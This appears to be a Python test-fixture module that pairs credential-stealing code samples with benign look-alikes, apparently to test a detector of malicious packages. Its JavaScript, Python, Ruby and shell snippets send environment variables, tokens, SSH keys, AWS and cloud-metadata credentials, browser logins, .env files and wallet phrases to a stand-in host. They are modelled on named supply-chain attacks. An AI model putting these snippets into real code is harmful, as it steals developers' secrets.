"""Behaviours that take something: variables, credentials, files, keys."""

from tests.twins.behaviour import (
    ALWAYS_TOLD,
    HELD_ALWAYS,
    HELD_BY_ITSELF,
    HOST,
    Behaviour,
    Code,
    Moment,
    behaviour,
)

_NO_SHELL = "a shell has no functions that a caller of the package gives something to"


def _file(
    id_: str, what: str, seen: str, path: str, *, benign: dict[Code, str] | None = None, key: bool = False
) -> Behaviour:
    """Return the theft of one file below the home."""
    parts = ", ".join(repr(part) for part in path.split("/"))
    return behaviour(
        id_,
        what,
        seen,
        HELD_ALWAYS if key else HELD_BY_ITSELF,
        js=(
            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst https = require('https');\n"
            f"const file = path.join(os.homedir(), {parts});\n"
            "if (fs.existsSync(file)) {\n  const text = fs.readFileSync(file, 'utf8');\n"
            f"  const req = https.request('{HOST}/in', {{ method: 'POST' }});\n  req.write(text);\n  req.end();\n}}\n"
        ),
        py=(
            "import os\nimport urllib.request\n"
            f"path = os.path.expanduser('~/{path}')\n"
            "if os.path.exists(path):\n    with open(path, 'rb') as file:\n        data = file.read()\n"
            f"    urllib.request.urlopen(urllib.request.Request('{HOST}/in', data=data))\n"
        ),
        rb=(
            "require 'net/http'\nrequire 'uri'\n"
            f"path = File.expand_path('~/{path}')\n"
            f"if File.exist?(path)\n  Net::HTTP.post(URI('{HOST}/in'), File.read(path))\nend\n"
        ),
        sh=f'curl -s -X POST --data-binary "@$HOME/{path}" {HOST}/in\n',
        benign=benign,
    )  # fmt: skip


_METADATA = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"

BEHAVIOURS: tuple[Behaviour, ...] = (
    behaviour(
        "environment-posted",
        "posts the whole environment to a fixed host",
        "crossenv (npm, 2017), ctx 0.2.2 (PyPI, 2022)",
        HELD_ALWAYS,
        js=(
            "const https = require('https');\nconst body = JSON.stringify(process.env);\n"
            f"const req = https.request('{HOST}/in', {{ method: 'POST', headers: {{ 'Content-Length': body.length }} }});\n"
            "req.on('error', () => {});\nreq.write(body);\nreq.end();\n"
        ),
        py=(
            "import json\nimport os\nimport urllib.request\n"
            f"urllib.request.urlopen('{HOST}/in', data=json.dumps(dict(os.environ)).encode())\n"
        ),
        rb="require 'net/http'\nrequire 'json'\n" f"Net::HTTP.post(URI('{HOST}/in'), ENV.to_h.to_json)\n",
        sh=f"env | curl -s -X POST -d @- {HOST}/in\n",
        benign={
            Code.JAVASCRIPT: "const { spawn } = require('child_process');\nspawn('tsc', ['-v'], { env: { ...process.env, FORCE_COLOR: '1' } });\n",
            Code.PYTHON: "import os\nimport subprocess\nsubprocess.run(['cmake', '--version'], env={**os.environ, 'LC_ALL': 'C'})\n",
            Code.RUBY: "env = ENV.to_h.merge('LC_ALL' => 'C')\nsystem(env, 'cmake', '--version')\n",
            Code.SHELL: "env | grep -q npm_config_user_agent || echo 'use a package manager'\n",
        },
    ),
    behaviour(
        "token-posted",
        "posts a token of the environment to a fixed host",
        "Shai-Hulud (2025)",
        HELD_BY_ITSELF,
        js=(
            "const token = process.env.NPM_TOKEN || process.env.GITHUB_TOKEN;\n"
            f"if (token) {{\n  fetch('{HOST}/in', {{ method: 'POST', body: JSON.stringify({{ token }}) }}).catch(() => {{}});\n}}\n"
        ),
        py=(
            "import os\nimport requests\ntoken = os.environ.get('TWINE_PASSWORD') or os.environ.get('GITHUB_TOKEN')\n"
            f"if token:\n    requests.post('{HOST}/in', json={{'token': token}}, timeout=5)\n"
        ),
        rb=(
            "require 'net/http'\ntoken = ENV['GEM_HOST_API_KEY'] || ENV['GITHUB_TOKEN']\n"
            f"Net::HTTP.post_form(URI('{HOST}/in'), 'token' => token) if token\n"
        ),
        sh=f'curl -s -d "token=$NPM_TOKEN" {HOST}/in\n',
        benign={
            Code.JAVASCRIPT: "const headers = process.env.GITHUB_TOKEN ? { authorization: `Bearer ${process.env.GITHUB_TOKEN}` } : {};\nfetch('https://api.github.com/repos/acme/sample/releases/latest', { headers }).then(r => r.json()).then(r => console.log(r.tag_name)).catch(() => {});\n",
            Code.PYTHON: "import os\nimport requests\ntoken = os.environ.get('GITHUB_TOKEN')\nheaders = {'Authorization': f'Bearer {token}'} if token else {}\nprint(requests.get('https://api.github.com/repos/acme/sample/releases/latest', headers=headers, timeout=5).json().get('tag_name'))\n",
            Code.RUBY: "require 'net/http'\nuri = URI('https://api.github.com/repos/acme/sample/releases/latest')\nreq = Net::HTTP::Get.new(uri)\nreq['Authorization'] = \"Bearer #{ENV['GITHUB_TOKEN']}\" if ENV['GITHUB_TOKEN']\nputs Net::HTTP.start(uri.host, uri.port, use_ssl: true) { |http| http.request(req) }.body\n",
            Code.SHELL: 'curl -s -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/repos/acme/sample/releases/latest\n',
        },
    ),
    behaviour(
        "identity-posted",
        "posts host name and user to a fixed host",
        "dependency confusion (2021), PyPI collection of 2023-24",
        HELD_BY_ITSELF,
        js=(
            "const os = require('os');\nconst https = require('https');\n"
            "const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname });\n"
            f"const req = https.request({{ hostname: '{HOST.removeprefix('https://')}', path: '/in', method: 'POST' }});\nreq.write(data);\nreq.end();\n"
        ),
        py=(
            "import getpass\nimport socket\nimport requests\n"
            f"requests.get('{HOST}/in', params={{'h': socket.gethostname(), 'u': getpass.getuser()}}, timeout=5)\n"
        ),
        rb=(
            "require 'net/http'\nrequire 'socket'\nrequire 'etc'\n"
            f'Net::HTTP.get(URI("{HOST}/in?h=#{{Socket.gethostname}}&u=#{{Etc.getlogin}}"))\n'
        ),
        sh=f'curl -s "{HOST}/in?h=$(hostname)&u=$(whoami)"\n',
        benign={
            Code.JAVASCRIPT: "const os = require('os');\nconsole.log(`built on ${os.hostname()} by ${os.userInfo().username}`);\n",
            Code.PYTHON: "import getpass\nimport socket\nprint('built on', socket.gethostname(), 'by', getpass.getuser())\n",
            Code.RUBY: "require 'socket'\nrequire 'etc'\nputs \"built on #{Socket.gethostname} by #{Etc.getlogin}\"\n",
            Code.SHELL: 'echo "built on $(hostname) by $(whoami)"\n',
        },
    ),
    behaviour(
        "identity-in-lookup",
        "puts host name and user into a name that it looks up",
        "dependency confusion (2021)",
        HELD_BY_ITSELF,
        js=(
            "const dns = require('dns');\nconst os = require('os');\n"
            "dns.resolve4(`${os.hostname()}.${os.userInfo().username}.d.pratique-twins.invalid`, () => {});\n"
        ),
        py=(
            "import getpass\nimport socket\ntry:\n    socket.gethostbyname(socket.gethostname() + '.' + getpass.getuser() + '.d.pratique-twins.invalid')\n"
            "except OSError:\n    pass\n"
        ),
        rb=(
            "require 'resolv'\nrequire 'socket'\nrequire 'etc'\n"
            'Resolv.getaddress("#{Socket.gethostname}.#{Etc.getlogin}.d.pratique-twins.invalid") rescue nil\n'
        ),
        sh="nslookup $(hostname).$(whoami).d.pratique-twins.invalid\n",
        benign={
            Code.JAVASCRIPT: "const dns = require('dns');\nconst os = require('os');\ndns.lookup(os.hostname(), (error, address) => console.log(address));\n",
            Code.PYTHON: "import socket\nprint(socket.gethostbyname(socket.gethostname()))\n",
            Code.RUBY: "require 'resolv'\nrequire 'socket'\nputs Resolv.getaddress(Socket.gethostname)\n",
            Code.SHELL: "nslookup api.github.com\n",
        },
    ),
    _file("npmrc-posted", "posts ~/.npmrc", "eslint-scope 3.7.2 (2018)", ".npmrc", benign={
        Code.JAVASCRIPT: "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst file = path.join(os.homedir(), '.npmrc');\nconst text = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '';\nconst registry = /^registry=(.+)$/m.exec(text)?.[1] ?? 'https://api.github.com/repos/acme/';\nfetch(`${registry}/sample`).then(r => r.json()).then(r => console.log(r['dist-tags'])).catch(() => {});\n",
        Code.SHELL: "test -f $HOME/.npmrc && grep registry $HOME/.npmrc\n",
    }),
    _file("pypirc-posted", "posts ~/.pypirc", "a plain variant of what was seen", ".pypirc", benign={
        Code.PYTHON: "import configparser\nimport os\nparser = configparser.ConfigParser()\nparser.read(os.path.expanduser('~/.pypirc'))\nprint(parser.sections())\n",
    }),
    _file("gem-credentials-posted", "posts ~/.gem/credentials", "a plain variant of what was seen", ".gem/credentials", benign={
        Code.RUBY: "path = File.expand_path('~/.gem/credentials')\nwarn 'sign in first: gem signin' unless File.exist?(path)\n",
    }),
    _file("aws-credentials-posted", "posts ~/.aws/credentials", "litellm 1.82.7 (2026)", ".aws/credentials", benign={
        Code.JAVASCRIPT: "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst file = path.join(os.homedir(), '.aws', 'credentials');\nconst key = fs.existsSync(file) ? /aws_access_key_id\\s*=\\s*(\\S+)/.exec(fs.readFileSync(file, 'utf8'))?.[1] : '';\nfetch('https://sts.us-east-1.amazonaws.com/', { method: 'POST', body: 'Action=GetCallerIdentity', headers: { authorization: `AWS4-HMAC-SHA256 Credential=${key}` } }).catch(() => {});\n",
        Code.PYTHON: "import configparser\nimport os\nimport requests\nparser = configparser.ConfigParser()\nparser.read(os.path.expanduser('~/.aws/credentials'))\nkey = parser.get('default', 'aws_access_key_id', fallback='')\nrequests.post('https://sts.us-east-1.amazonaws.com/', data='Action=GetCallerIdentity', headers={'Authorization': f'AWS4-HMAC-SHA256 Credential={key}'})\n",
        Code.RUBY: "require 'net/http'\npath = File.expand_path('~/.aws/credentials')\nkey = File.exist?(path) ? File.read(path)[/aws_access_key_id\\s*=\\s*(\\S+)/, 1] : ''\nNet::HTTP.post(URI('https://sts.us-east-1.amazonaws.com/'), 'Action=GetCallerIdentity', 'Authorization' => \"AWS4-HMAC-SHA256 Credential=#{key}\")\n",
    }),
    _file("ssh-key-posted", "posts ~/.ssh/id_rsa", "jeIlyfish (PyPI, 2019)", ".ssh/id_rsa", key=True, benign={
        Code.JAVASCRIPT: "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst file = path.join(os.homedir(), '.ssh', 'id_rsa');\nmodule.exports.key = () => fs.readFileSync(file);\n",
        Code.PYTHON: "import os\npath = os.path.expanduser('~/.ssh/id_rsa')\nif not os.path.exists(path):\n    print('no key at', path)\n",
        Code.RUBY: "path = File.expand_path('~/.ssh/id_rsa')\nputs \"no key at #{path}\" unless File.exist?(path)\n",
        Code.SHELL: "test -f $HOME/.ssh/id_rsa || echo 'make a key with ssh-keygen'\n",
    }),
    _file("browser-logins-posted", "posts the logins that Chrome keeps", "W4SP (2022)", ".config/google-chrome/Default/Login Data", key=True),
    behaviour(
        "session-files-posted",
        "posts every .session file of the folder",
        "a plain variant of what was seen",
        HELD_BY_ITSELF,
        js=(
            "const fs = require('fs');\nfor (const name of fs.readdirSync('.').filter(n => n.endsWith('.session'))) {\n"
            f"  fetch('{HOST}/in', {{ method: 'POST', body: fs.readFileSync(name) }}).catch(() => {{}});\n}}\n"
        ),
        py=(
            "import glob\nimport requests\nfor name in glob.glob('*.session'):\n"
            f"    with open(name, 'rb') as file:\n        requests.post('{HOST}/in', files={{'file': file}})\n"
        ),
        rb=(
            "require 'net/http'\nDir.glob('*.session').each do |name|\n"
            f"  Net::HTTP.post(URI('{HOST}/in'), File.binread(name))\nend\n"
        ),
        sh=f'for f in *.session; do curl -s -F "file=@$f" {HOST}/in; done\n',
        benign={
            Code.JAVASCRIPT: "const fs = require('fs');\nfor (const name of fs.readdirSync('.').filter(n => n.endsWith('.tmp'))) {\n  fs.unlinkSync(name);\n}\n",
            Code.PYTHON: "import glob\nfor name in glob.glob('*.session'):\n    print(name)\n",
            Code.RUBY: "Dir.glob('*.session').each do |name|\n  puts name\nend\n",
            Code.SHELL: 'for f in *.session; do echo "$f"; done\n',
        },
    ),
    behaviour(
        "dotenv-posted",
        "posts the .env file of the project",
        "a plain variant of what was seen",
        HELD_BY_ITSELF,
        js=(
            "const fs = require('fs');\nconst path = require('path');\nconst axios = require('axios');\n"
            "const file = path.join(process.env.INIT_CWD || process.cwd(), '.env');\n"
            f"if (fs.existsSync(file)) {{\n  axios.post('{HOST}/in', {{ env: fs.readFileSync(file, 'utf8') }}).catch(() => {{}});\n}}\n"
        ),
        py=(
            "import os\nimport requests\nif os.path.exists('.env'):\n    text = open('.env').read()\n"
            f"    requests.post('{HOST}/in', json={{'env': text}})\n"
        ),
        rb=(
            "require 'net/http'\nif File.exist?('.env')\n"
            f"  Net::HTTP.post_form(URI('{HOST}/in'), 'env' => File.read('.env'))\nend\n"
        ),
        sh=f"cat .env | curl -s --data-binary @- {HOST}/in\n",
        benign={
            Code.JAVASCRIPT: "const fs = require('fs');\nif (fs.existsSync('.env')) {\n  for (const line of fs.readFileSync('.env', 'utf8').split('\\n')) {\n    const [key, value] = line.split('=');\n    process.env[key] ??= value;\n  }\n}\n",
            Code.PYTHON: "import os\nif os.path.exists('.env'):\n    for line in open('.env'):\n        key, _, value = line.partition('=')\n        os.environ.setdefault(key, value.strip())\n",
            Code.RUBY: "if File.exist?('.env')\n  File.readlines('.env').each do |line|\n    key, value = line.chomp.split('=', 2)\n    ENV[key] ||= value\n  end\nend\n",
            Code.SHELL: "test -f .env || cp .env.example .env\n",
        },
    ),
    behaviour(
        "metadata-posted",
        "asks the metadata service of a cloud for credentials and posts them",
        "Shai-Hulud 2 (2025), litellm 1.82.7 (2026)",
        HELD_ALWAYS,
        js=(
            f"fetch('{_METADATA}')\n  .then(r => r.text())\n"
            f"  .then(role => fetch('{_METADATA}' + role))\n  .then(r => r.text())\n"
            f"  .then(keys => fetch('{HOST}/in', {{ method: 'POST', body: keys }}))\n  .catch(() => {{}});\n"
        ),
        py=(
            "import requests\n"
            f"role = requests.get('{_METADATA}', timeout=2).text\nkeys = requests.get('{_METADATA}' + role, timeout=2).text\n"
            f"requests.post('{HOST}/in', data=keys)\n"
        ),
        rb=(
            "require 'net/http'\n"
            f"role = Net::HTTP.get(URI('{_METADATA}'))\nkeys = Net::HTTP.get(URI('{_METADATA}' + role))\n"
            f"Net::HTTP.post(URI('{HOST}/in'), keys)\n"
        ),
        sh=f"curl -s {_METADATA}admin | curl -s -X POST -d @- {HOST}/in\n",
        benign={
            Code.JAVASCRIPT: f"fetch('{_METADATA}')\n  .then(r => r.text())\n  .then(role => fetch('{_METADATA}' + role))\n  .then(r => r.json())\n  .then(keys => fetch('https://sts.us-east-1.amazonaws.com/', {{ headers: {{ authorization: `AWS4-HMAC-SHA256 Credential=${{keys.AccessKeyId}}` }} }}))\n  .catch(() => {{}});\n",
            Code.PYTHON: f"import requests\nrole = requests.get('{_METADATA}', timeout=2).text\nkeys = requests.get('{_METADATA}' + role, timeout=2).json()\nrequests.get('https://sts.us-east-1.amazonaws.com/', headers={{'Authorization': 'AWS4-HMAC-SHA256 Credential=' + keys['AccessKeyId']}})\n",
            Code.RUBY: f"require 'net/http'\nrequire 'json'\nrole = Net::HTTP.get(URI('{_METADATA}'))\nkeys = JSON.parse(Net::HTTP.get(URI('{_METADATA}' + role)))\nNet::HTTP.get(URI('https://sts.us-east-1.amazonaws.com/'), 'Authorization' => \"AWS4-HMAC-SHA256 Credential=#{{keys['AccessKeyId']}}\")\n",
            Code.SHELL: "curl -s http://169.254.169.254/latest/meta-data/instance-id\n",
        },
    ),
    behaviour(
        "caller-key-posted",
        "posts the words of a wallet that its caller gives it to a fixed host",
        "xrpl 4.2.3 (npm, 2025)",
        {Moment.CALLED: HELD_ALWAYS[Moment.CALLED]},
        js=(
            "const bip39 = require('bip39');\n"
            f"fetch('{HOST}/xc', {{ method: 'POST', headers: {{ 'ad-referral': mnemonic }} }}).catch(() => {{}});\n"
            "return bip39.mnemonicToSeedSync(mnemonic);\n"
        ),
        py=(
            "import requests\nfrom eth_account import Account\n"
            f"requests.post('{HOST}/xc', headers={{'ad-referral': mnemonic}}, timeout=5)\nreturn Account.from_mnemonic(mnemonic)\n"
        ),
        rb=(
            "require 'net/http'\nrequire 'bip_mnemonic'\n"
            f"Net::HTTP.post(URI('{HOST}/xc'), '', 'ad-referral' => mnemonic)\nBipMnemonic.to_seed(mnemonic: mnemonic)\n"
        ),
        benign={
            Code.JAVASCRIPT: "const bip39 = require('bip39');\nreturn bip39.validateMnemonic(mnemonic) ? bip39.mnemonicToSeedSync(mnemonic) : null;\n",
            Code.PYTHON: "from eth_account import Account\nreturn Account.from_mnemonic(mnemonic)\n",
            Code.RUBY: "require 'bip_mnemonic'\nBipMnemonic.to_seed(mnemonic: mnemonic)\n",
        },
        absent={Code.SHELL: _NO_SHELL},
        parameters=("mnemonic",),
    ),
    behaviour(
        "caller-password-posted",
        "posts a password that its caller gives it to a fixed host",
        "ssh-decorate (PyPI, 2018), rest-client 1.6.13 (RubyGems, 2019)",
        {Moment.CALLED: ALWAYS_TOLD[Moment.CALLED]},
        js=(
            f"fetch('{HOST}/in', {{ method: 'POST', body: JSON.stringify({{ user, password }}) }}).catch(() => {{}});\n"
            "return user + ':' + password;\n"
        ),
        py=f"import requests\nrequests.post('{HOST}/in', data={{'user': user, 'password': password}}, timeout=5)\nreturn user + ':' + password\n",
        rb=f"require 'net/http'\nNet::HTTP.post_form(URI('{HOST}/in'), 'user' => user, 'password' => password)\nuser + ':' + password\n",
        benign={
            Code.JAVASCRIPT: "return fetch('https://api.github.com/user', { headers: { authorization: 'Basic ' + btoa(user + ':' + password) } });\n",
            Code.PYTHON: "import requests\nreturn requests.get('https://api.github.com/user', auth=(user, password), timeout=5)\n",
            Code.RUBY: "require 'net/http'\nreq = Net::HTTP::Get.new('/user')\nreq.basic_auth(user, password)\nNet::HTTP.start('api.github.com', 443, use_ssl: true) { |http| http.request(req) }\n",
        },
        absent={Code.SHELL: _NO_SHELL},
        parameters=("user", "password"),
    ),
)  # fmt: skip
